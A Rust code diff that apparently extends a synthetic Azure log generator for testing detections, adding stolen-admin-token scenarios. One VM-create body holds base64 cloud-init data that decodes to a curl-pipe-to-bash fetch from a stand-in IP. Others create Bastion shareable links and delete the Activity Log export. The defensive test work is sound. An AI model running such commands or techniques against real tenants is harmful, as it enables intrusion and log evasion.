@@ -32,6 +32,35 @@ impl Op {
         api: &str,
         expect: Option<Severity>,
     ) {
+        self.call(g, t, (operation, resource, api), None, expect);
+    }
+
+    /// A write whose request body matters (seen through the Activity Log).
+    fn write(
+        &self,
+        g: &mut Gen,
+        t: Timestamp,
+        (operation, resource): (&str, &str),
+        body: &serde_json::Value,
+        expect: Option<Severity>,
+    ) {
+        self.call(
+            g,
+            t,
+            (operation, resource, "2024-07-01"),
+            Some(body),
+            expect,
+        );
+    }
+
+    fn call(
+        &self,
+        g: &mut Gen,
+        t: Timestamp,
+        (operation, resource, api): (&str, &str, &str),
+        body: Option<&serde_json::Value>,
+        expect: Option<Severity>,
+    ) {
         let call = Call {
             time: t,
             sub: SUBS[self.sub].id,
@@ -41,6 +70,7 @@ impl Op {
             resource,
             api,
             failed: false,
+            body,
         };
         g.azure(&call, step(self.name, expect));
     }
@@ -89,6 +119,26 @@ fn with_app(p: &AzPersona, app: &str) -> Caller {
         appid: app.into(),
         ..p.caller.clone()
     }
+}
+
+/// A stolen Entra administrator's token used from a VPS with `app`, in subscription `sub` (the
+/// administrator's own when `None`): the day, the victim, the operator and the first step's time.
+fn stolen_admin(
+    g: &Gen,
+    rng: &mut Rng,
+    name: &'static str,
+    sub: Option<usize>,
+    app: &str,
+) -> Option<(i64, AzPersona, Op, Timestamp)> {
+    let (d, p) = victim(g, rng, Kind::AzureAdmin, 1)?;
+    let t = time(g, rng, p.zone, d);
+    let o = Op {
+        name,
+        sub: sub.unwrap_or(p.sub),
+        caller: with_app(&p, app),
+        ip: vps(rng),
+    };
+    Some((d, p, o, t))
 }
 
 /// A victim active on the attack day (people join and leave).
@@ -387,15 +437,8 @@ pub(super) fn office_client(g: &mut Gen, rng: &mut Rng, name: &'static str) {
 }
 
 pub(super) fn custom_script(g: &mut Gen, rng: &mut Rng, name: &'static str) {
-    let Some((d, p)) = victim(g, rng, Kind::AzureAdmin, 1) else {
+    let Some((d, _, o, t)) = stolen_admin(g, rng, name, Some(0), azure_app::CLI) else {
         return;
-    };
-    let t = time(g, rng, p.zone, d);
-    let o = Op {
-        name,
-        sub: 0,
-        caller: with_app(&p, azure_app::CLI),
-        ip: vps(rng),
     };
     for (k, vm) in vms(g, rng, 0, &["rg-win"], d, 3).iter().enumerate() {
         let res = format!("{vm}/extensions/CustomScriptExtension");
@@ -413,15 +456,8 @@ pub(super) fn custom_script(g: &mut Gen, rng: &mut Rng, name: &'static str) {
 /// An Entra administrator's token replayed from a VPS deletes the subscription's Activity Log
 /// export, then runs a command.
 pub(super) fn export_deleted(g: &mut Gen, rng: &mut Rng, name: &'static str) {
-    let Some((d, p)) = victim(g, rng, Kind::AzureAdmin, 1) else {
+    let Some((d, p, o, t)) = stolen_admin(g, rng, name, None, azure_app::POWERSHELL) else {
         return;
-    };
-    let t = time(g, rng, p.zone, d);
-    let o = Op {
-        name,
-        sub: p.sub,
-        caller: with_app(&p, azure_app::POWERSHELL),
-        ip: vps(rng),
     };
     let export = format!(
         "/subscriptions/{}/providers/microsoft.insights/diagnosticSettings/setbypolicy_logAnalytics",
@@ -438,4 +474,54 @@ pub(super) fn export_deleted(g: &mut Gen, rng: &mut Rng, name: &'static str) {
     if let Some(vm) = vms(g, rng, p.sub, &p.rgs, d, 1).first() {
         o.run(g, t + mins(rng.range(3, 9)), vm, Some(High));
     }
+}
+
+/// A stolen administrator token from a VPS creates a Linux VM whose custom data downloads and
+/// runs the attacker's script at first boot (cloud-init).
+pub(super) fn custom_data_vm(g: &mut Gen, rng: &mut Rng, name: &'static str) {
+    let Some((_, p, o, t)) = stolen_admin(g, rng, name, None, azure_app::POWERSHELL) else {
+        return;
+    };
+    let rg = p.rgs.first().copied().unwrap_or("rg-app");
+    let vm = format!(
+        "/subscriptions/{}/resourceGroups/{rg}/providers/Microsoft.Compute/virtualMachines/vm-{}",
+        SUBS[p.sub].id,
+        rng.chars(8, b"abcdefghijklmnopqrstuvwxyz0123456789")
+    );
+    let body = serde_json::json!({"location": "westeurope", "properties": {
+        "hardwareProfile": {"vmSize": "Standard_B2s"},
+        "osProfile": {"computerName": "vm", "adminUsername": "azureuser",
+            "customData": "IyEvYmluL2Jhc2gKY3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43L2kgfCBiYXNo"},
+        "identity": {"type": "SystemAssigned"}}});
+    o.write(
+        g,
+        t,
+        ("Microsoft.Compute/virtualMachines/write", &vm),
+        &body,
+        Some(High),
+    );
+}
+
+/// A stolen administrator token from a VPS creates a Bastion shareable link to two production
+/// VMs: RDP or SSH for whoever holds the URL, no sign-in.
+pub(super) fn bastion_link(g: &mut Gen, rng: &mut Rng, name: &'static str) {
+    let Some((d, _, o, t)) = stolen_admin(g, rng, name, Some(0), azure_app::CLI) else {
+        return;
+    };
+    let targets = vms(g, rng, 0, &[], d, 2);
+    let bastion = format!(
+        "/subscriptions/{}/resourceGroups/rg-hub-network/providers/Microsoft.Network/bastionHosts/bas-hub",
+        SUBS[0].id
+    );
+    let body = serde_json::json!({"vms": targets.iter().map(|v| serde_json::json!({"vm": {"id": v}})).collect::<Vec<_>>()});
+    o.write(
+        g,
+        t,
+        (
+            "Microsoft.Network/bastionHosts/createShareableLinks/action",
+            &bastion,
+        ),
+        &body,
+        Some(High),
+    );
 }
